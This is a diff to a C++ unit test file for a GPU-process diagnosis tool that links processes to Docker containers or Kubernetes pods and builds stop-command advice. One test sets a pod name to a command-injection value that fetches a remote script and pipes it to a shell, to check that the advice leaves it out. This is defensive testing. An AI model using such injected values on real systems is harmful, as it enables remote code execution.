@@ -11,6 +11,7 @@
 #include "diagnose/advice.hpp"
 #include "diagnose/place_advice.hpp"
 #include "diagnose/placement.hpp"
+#include "unit/sample_container_ids.hpp"
 
 using culprit::diagnose::ListedContainer;
 using culprit::diagnose::PlaceFacts;
@@ -18,8 +19,8 @@ using culprit::diagnose::place_process;
 using culprit::diagnose::ProcessRef;
 
 namespace {
-const std::string kId = "3f2a9c1b7d4e8a6f0c5b2d1e9f7a8b6c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a";
-const std::string kUidUnderscores = "5e0c7d2a_91b4_4c3e_8f6a_2d7b1c9e4a13";
+using culprit::test::kContainerId;
+using culprit::test::kPodUidUnderscores;
 
 PlaceFacts facts(std::string cgroup, std::optional<std::int64_t> nspid = std::nullopt) {
   PlaceFacts f;
@@ -33,34 +34,35 @@ PlaceFacts facts(std::string cgroup, std::optional<std::int64_t> nspid = std::nu
 
 TEST_CASE("placement: a Docker container named by its docker ps row, the pid inside it", "[diagnose][placement]") {
   // `docker ps` lists 12 digits, `docker inspect` all 64: one container, twice.
-  const std::vector<ListedContainer> listed = {{kId.substr(0, 12), "vllm-embeddings", "", ""},
-                                               {kId, "vllm-embeddings", "", ""},
+  const std::vector<ListedContainer> listed = {{kContainerId.substr(0, 12), "vllm-embeddings", "", ""},
+                                               {kContainerId, "vllm-embeddings", "", ""},
                                                {"0123456789ab", "other", "", ""}};
-  const auto p = place_process(facts("/system.slice/docker-" + kId + ".scope", 1), listed);
+  const auto p = place_process(facts("/system.slice/docker-" + kContainerId + ".scope", 1), listed);
   REQUIRE(p);
   CHECK(p->runtime == "docker");
-  CHECK(p->container_id == kId);
+  CHECK(p->container_id == kContainerId);
   CHECK(p->container_name == "vllm-embeddings");
   CHECK(p->nspid == 1);
   CHECK(p->gone.empty());
 }
 
 TEST_CASE("placement: rows that disagree about an id name nobody", "[diagnose][placement]") {
-  const std::vector<ListedContainer> listed = {{kId.substr(0, 12), "a", "", ""}, {kId.substr(0, 13), "b", "", ""}};
-  const auto p = place_process(facts("/docker/" + kId), listed);
+  const std::vector<ListedContainer> listed = {{kContainerId.substr(0, 12), "a", "", ""},
+                                               {kContainerId.substr(0, 13), "b", "", ""}};
+  const auto p = place_process(facts("/docker/" + kContainerId), listed);
   REQUIRE(p);
-  CHECK(p->container_id == kId);
+  CHECK(p->container_id == kContainerId);
   CHECK(p->container_name.empty());
   // Fewer than 12 digits match too much to name anything.
-  CHECK_FALSE(culprit::diagnose::listed_id_matches(kId.substr(0, 8), kId));
-  CHECK(culprit::diagnose::listed_id_matches(kId.substr(0, 13), kId));
-  CHECK_FALSE(culprit::diagnose::listed_id_matches(kId.substr(0, 12), "0" + kId.substr(1)));
+  CHECK_FALSE(culprit::diagnose::listed_id_matches(kContainerId.substr(0, 8), kContainerId));
+  CHECK(culprit::diagnose::listed_id_matches(kContainerId.substr(0, 13), kContainerId));
+  CHECK_FALSE(culprit::diagnose::listed_id_matches(kContainerId.substr(0, 12), "0" + kContainerId.substr(1)));
 }
 
 TEST_CASE("placement: a Kubernetes pod named by crictl ps", "[diagnose][placement]") {
-  const std::vector<ListedContainer> listed = {{kId.substr(0, 13), "embed", "embed-0", "ml-serving"}};
+  const std::vector<ListedContainer> listed = {{kContainerId.substr(0, 13), "embed", "embed-0", "ml-serving"}};
   const auto p = place_process(facts("/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod" +
-                                     kUidUnderscores + ".slice/cri-containerd-" + kId + ".scope", 1),
+                                     kPodUidUnderscores + ".slice/cri-containerd-" + kContainerId + ".scope", 1),
                                listed);
   REQUIRE(p);
   CHECK(p->runtime == "containerd");
@@ -84,7 +86,7 @@ TEST_CASE("placement: gone, zombie and stuck holders are named as such", "[diagn
   gone.gpu_listed = false;  // gone and holding nothing: nothing to say
   CHECK_FALSE(place_process(gone, {}));
 
-  PlaceFacts zombie = facts("/docker/" + kId);
+  PlaceFacts zombie = facts("/docker/" + kContainerId);
   zombie.state = "Z";
   p = place_process(zombie, {});
   REQUIRE(p);
@@ -122,7 +124,7 @@ TEST_CASE("a placed foreign holder's advice stops its pod or container by the na
   c.role = "foreign";
   culprit::diagnose::ProcessPlace place;
   place.runtime = "docker";
-  place.container_id = kId;
+  place.container_id = kContainerId;
   place.container_name = "vllm-embeddings";
   c.place = place;
   CHECK(culprit::diagnose::culprit_action(c).find("`docker stop vllm-embeddings` on gpu-node-7") != std::string::npos);
@@ -139,7 +141,7 @@ TEST_CASE("a placed foreign holder's advice stops its pod or container by the na
   CHECK(advice.find("docker stop") == std::string::npos);
   // A pod name no Kubernetes would give is no command: the CRI id (hex) is.
   c.place->pod_name = "embed-0;curl evil|sh";
-  CHECK(culprit::diagnose::place_stop_command(c) == "`crictl stop " + kId.substr(0, 13) + "`");
+  CHECK(culprit::diagnose::place_stop_command(c) == "`crictl stop " + kContainerId.substr(0, 13) + "`");
   CHECK(culprit::diagnose::culprit_action(c).find("curl") == std::string::npos);
   // A Docker name Docker would not give: no command from the place (the pid's instead).
   c.place = place;
